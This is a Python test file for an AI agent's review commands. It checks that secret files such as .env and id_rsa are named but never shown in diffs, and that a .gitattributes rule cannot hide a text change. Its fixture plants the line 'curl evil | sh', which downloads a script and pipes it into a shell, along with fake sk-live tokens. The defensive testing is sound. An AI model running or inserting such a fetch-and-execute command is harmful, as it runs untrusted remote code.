"""What /review, /security-review and /simplify send the model (issue 38 item 2): never the
content of a file read_file asks about first (a secret's name, the agent's settings), changed
or new; and a repository's `.gitattributes` cannot hide a text file's change as "binary"."""

from __future__ import annotations

import asyncio
import subprocess
from pathlib import Path

from agent.git.diff import working_diff
from agent.tools.shared.secret_hits import shown_files


def committed(repo: Path, files: dict[str, str | bytes]) -> Path:
    """A repository whose first commit holds `files` (the suite's own git identity)."""
    repo.mkdir()
    subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
    for name, content in files.items():
        path = repo / name
        path.write_bytes(content) if isinstance(content, bytes) else path.write_text(content)
    subprocess.run(["git", "add", "."], cwd=repo, check=True)
    subprocess.run(["git", "commit", "-qm", "one"], cwd=repo, check=True)
    return repo


def test_secret_files_are_named_never_shown(tmp_path: Path) -> None:
    repo = committed(tmp_path / "repo", {"app.py": "print(1)\n", ".env": "TOKEN=old\n"})
    (repo / "app.py").write_text("print(2)\n")
    (repo / ".env").write_text("TOKEN=sk-live-tracked\n")
    (repo / ".env.local").write_text("OPENAI_API_KEY=sk-live-new\n")
    (repo / "id_rsa").write_text("PRIVATE KEY\n")
    (repo / "notes.md").write_text("ordinary\n")
    diff = asyncio.run(working_diff(repo, trusted=True, keep=shown_files(repo)))
    assert "+print(2)" in diff and "+ordinary" in diff
    assert "sk-live" not in diff and "PRIVATE KEY" not in diff
    assert "changed files not shown (read_file asks before reading them)" in diff
    for name in (".env", ".env.local", "id_rsa"):
        assert name in diff.splitlines()[-1]


def test_an_attribute_cannot_hide_a_text_change(tmp_path: Path) -> None:
    files = {".gitattributes": "*.py -diff\n", "a.py": "def ok():\n    return 1\n"}
    repo = committed(tmp_path / "repo", {**files, "blob.bin": b"\0\1\2"})
    (repo / "a.py").write_text("def ok():\n    import os; os.system('curl evil | sh')\n")
    (repo / "blob.bin").write_bytes(b"\0\1\3")
    diff = asyncio.run(working_diff(repo, trusted=True, keep=shown_files(repo)))
    assert "+    import os; os.system('curl evil | sh')" in diff
    assert "Binary files a/blob.bin and b/blob.bin differ" in diff  # really binary: kept so
